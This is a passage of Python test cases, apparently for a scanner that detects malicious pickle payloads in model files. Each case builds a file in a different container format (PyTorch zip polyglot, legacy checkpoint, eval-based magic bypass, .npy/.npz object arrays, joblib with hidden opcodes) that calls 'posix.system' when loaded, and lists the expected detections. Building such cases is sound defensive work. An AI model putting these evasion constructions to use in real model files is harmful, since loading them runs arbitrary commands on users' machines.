def _zip_bz2(marker: Path) -> tuple[str, bytes]:
    return "bundle.zip", plain_zip({"data.pkl": _evil(marker)}, zipfile.ZIP_BZIP2)


@case("pickle-zip-polyglot", "a malicious pickle with a benign PyTorch zip appended (torch.load reads the pickle)",
      "fickling test_polyglot; zip readers find the archive from the end", expect=("posix.system",),
      rules=("RK201", "RK203"), loader="torch")
def _polyglot(marker: Path) -> tuple[str, bytes]:
    return "model.pt", _evil(marker) + torch_zip(dumps({}))


@case("legacy-checkpoint", "legacy PyTorch checkpoint with the payload in its checkpoint pickle",
      "issue 3 (legacy PyTorch format)", expect=("posix.system",), loader="torch")
def _legacy(marker: Path) -> tuple[str, bytes]:
    return "model.pt", legacy(_evil(marker))


@case("legacy-magic-bypass", "legacy layout whose magic number comes from eval, payload in a later pickle",
      "picklescan pytorch_magic_bypass.pt (GHSA-9gvj-pp9x-gcfr follow-up)", expect=("builtins.eval", "posix.system"),
      loader="torch")
def _magic(marker: Path) -> tuple[str, bytes]:
    first = program(call(glob("builtins", "eval"), hex(LEGACY_MAGIC)))
    return "model.pt", (first + program(const(1001)) + program(const({})) + program(const([])) + _evil(marker)
                        + program(const(None)))


@case("npy-object", "an .npy object array whose pickle carries the payload",
      "picklescan dns_exfiltration.npy", expect=("posix.system",), loader="numpy")
def _npy(marker: Path) -> tuple[str, bytes]:
    return "array.npy", npy_object(_evil(marker))


@case("npz-object", "an .npz whose object-array member carries the payload", "picklescan object_arrays.npz",
      expect=("posix.system",), loader="numpy")
def _npz(marker: Path) -> tuple[str, bytes]:
    return "arrays.npz", plain_zip({"a.npy": npy_object(dumps([1, 2])), "b.npy": npy_object(_evil(marker))},
                                   zipfile.ZIP_DEFLATED)


@case("joblib-gzip", "a gzip-compressed pickle (joblib, pandas.read_pickle)", "arXiv 2508.19774 (joblib loading path)",
      expect=("posix.system",), loader="joblib")
def _joblib_gz(marker: Path) -> tuple[str, bytes]:
    import gzip
    return "model.joblib", gzip.compress(_evil(marker))


@case("joblib-hidden-opcodes", "unaligned joblib array data that also reads as opcodes for pickle.load",
      "joblib NumpyArrayWrapper parser differential", rules=("RK202",), loader=None)
def _joblib_hidden(marker: Path) -> tuple[str, bytes]:
    hidden = bytes(call(glob("posix", "system"), sh(marker)))
    dtype = (bytes(call(glob("numpy", "dtype"), "u1", False, True))
             + const((3, "|", None, None, None, -1, -1, 0)) + pickle.BUILD)
    state = {"subclass": glob("numpy", "ndarray"), "shape": (len(hidden) + 1,), "order": "C",
             "dtype": Raw(dtype), "allow_mmap": False}
    wrapper = bytes(call(glob("joblib.numpy_pickle", "NumpyArrayWrapper"))) + const(state) + pickle.BUILD
    return "model.joblib", proto(2) + wrapper + hidden + pickle.STOP + pickle.STOP
